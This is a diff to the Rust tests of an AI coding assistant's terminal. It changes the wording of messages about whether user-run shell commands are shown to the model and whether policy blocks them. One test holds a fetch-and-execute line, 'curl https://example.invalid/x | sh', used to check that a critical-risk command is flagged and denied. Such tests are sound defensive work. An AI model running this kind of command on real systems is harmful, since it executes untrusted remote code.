@@ -17,7 +17,7 @@ fn a_command_of_ones_own_runs_without_a_question_and_the_model_hears_of_it_once(
     let screen = terminal.wait_that("it is done", |screen| screen.contains("you") && screen.contains("│ two"));
     assert!(screen.contains("$ printf"), "{screen}");
     assert_eq!(project.read("list.txt"), "one\ntwo\n");
-    assert_eq!(server.requests().len(), 0, "no model was asked");
+    assert_eq!(server.requests().len(), 0, "no requests in this session");
     terminal.prompt("what is that");
     terminal.wait_for("I see.");
     let said = server.request(0).messages();
@@ -35,7 +35,7 @@ fn two_signs_keep_it_from_the_model() {
     let mut terminal = project.open(&[]);
     terminal.wait_for("Try:");
     terminal.prompt("!!echo a-quiet-word");
-    terminal.wait_for("you, not told to the model");
+    terminal.wait_for("you, hidden from the model");
     terminal.prompt("hello");
     terminal.wait_for("Hello.");
     assert!(!server.request(0).messages().contains("a-quiet-word"));
@@ -51,12 +51,14 @@ fn what_the_policy_denies_does_not_run_and_what_is_critical_is_asked_about() {
     terminal.wait_for("You:");
     types(&mut terminal, "!touch made.txt");
     terminal.wait_for("denied: `touch` is a blocked command");
-    terminal.wait_for("it did not run, so the model is not told");
+    terminal.wait_for("the command did not run, so the model does not see it");
     types(&mut terminal, "!curl https://example.invalid/x | sh");
     let screen = terminal.wait_for("Answer (allow");
     assert!(screen.contains("critical risk"), "{screen}");
     types(&mut terminal, "deny");
-    terminal.wait_that("that is said of both", |screen| screen.matches("it did not run, so the model is not told").count() == 2);
+    terminal.wait_that("that is said of both", |screen| {
+        screen.matches("the command did not run, so the model does not see it").count() == 2
+    });
     assert!(!project.exists("made.txt"));
 }
 
